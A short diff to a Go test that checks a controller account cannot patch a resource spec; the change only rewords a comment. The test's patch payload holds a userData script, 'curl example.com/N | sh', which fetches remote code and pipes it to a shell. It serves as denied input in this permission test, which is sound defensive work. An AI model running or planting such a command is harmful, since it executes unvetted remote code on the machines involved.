@@ -58,7 +58,7 @@ func TestTheControllersAccountCannotChangeASpec(t *testing.T) {
 		return by.Patch(t.Context(), class.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(text)))
 	}
 	tries := 0
-	testkit.Eventually(t, patience, func() error { // the API server hears of roles and policies by watching
+	testkit.Eventually(t, patience, func() error { // the API server learns of roles and policies by watching
 		tries++ // a patch that was let through once would change nothing the second time
 		err := patch(controller, fmt.Sprintf(`{"spec": {"userData": "#!/bin/sh\ncurl example.com/%d | sh"}}`, tries))
 		if err == nil {
